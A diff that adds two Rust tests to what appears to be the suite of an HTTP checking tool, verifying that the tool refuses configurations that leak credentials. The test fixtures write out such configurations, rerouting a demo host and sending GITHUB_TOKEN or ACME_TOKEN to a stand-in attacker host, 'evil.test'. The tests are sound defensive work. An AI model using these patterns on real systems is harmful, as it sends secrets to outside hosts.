@@ -69,6 +69,47 @@ fn a_pinned_target_cannot_be_moved_to_another_machine() {
 }
 
 #[test]
+fn names_of_the_demo_that_lead_elsewhere_demand_a_policy() {
+    let setup = Setup::new();
+    let text = setup.project.read("avouch.yaml");
+    let target = format!("http://{}", setup.service.address);
+    let more = format!("connect_to: {{ x.demo.test: \"{}\" }}\n", setup.evil());
+    let text = text.replace(&target, "demo").replace(
+        "bearer: \"${ACME_TOKEN}\"",
+        "bearer: \"${GITHUB_TOKEN}\", send_to: [\"https://x.demo.test\"]",
+    );
+    setup.project.write("avouch.yaml", &format!("{more}{text}"));
+    let run = setup.run(&["check"], &[("CI", "true")]);
+    assert_eq!(run.code, Some(2), "{run}");
+    assert!(run.out.contains("https://x.demo.test"), "{run}");
+    setup.nothing_happened(&run);
+}
+
+#[test]
+fn no_write_follows_an_answer_and_no_word_makes_it_a_read() {
+    let wants = |request: &str| format!("{{ name: more, {request}, expect: {{ status: 200 }} }}");
+    let words = "requests that change something on `127.0.0.1:";
+    step(&wants("post: /notes, as: acme, reads: true"), words);
+    let change = |setup: &Setup| {
+        let captures = "get: /me, capture: { at: /name }, expect";
+        setup.project.edit("checks/claim.yaml", "get: /me, expect", captures);
+        let text = setup.project.read("checks/claim.yaml");
+        let more = wants("post: \"${at}\", reads: true");
+        setup.project.write("checks/claim.yaml", &format!("{text}    - {more}\n"));
+    };
+    refused(change, &["check"], "at addresses in answers", "checks/claim.yaml");
+    let change = |setup: &Setup| {
+        let captures = "get: /me, capture: { at: /name }, expect";
+        setup.project.edit("checks/claim.yaml", "get: /me, expect", captures);
+        let text = setup.project.read("checks/claim.yaml");
+        let more = wants("get: \"https://evil.test/${at}\"");
+        setup.project.write("checks/claim.yaml", &format!("{text}    - {more}\n"));
+    };
+    let sent = "the credential from the variable `ACME_TOKEN` is sent to `https://evil.test`";
+    refused(change, &["check"], sent, "checks/claim.yaml");
+}
+
+#[test]
 fn no_actor_reads_or_sends_more_than_is_permitted() {
     let robot = "actors:\n  robot: { bearer: \"${GITHUB_TOKEN}\" }\n";
     let run = actor("actors:\n", robot, "the variable `GITHUB_TOKEN` as `bearer`");
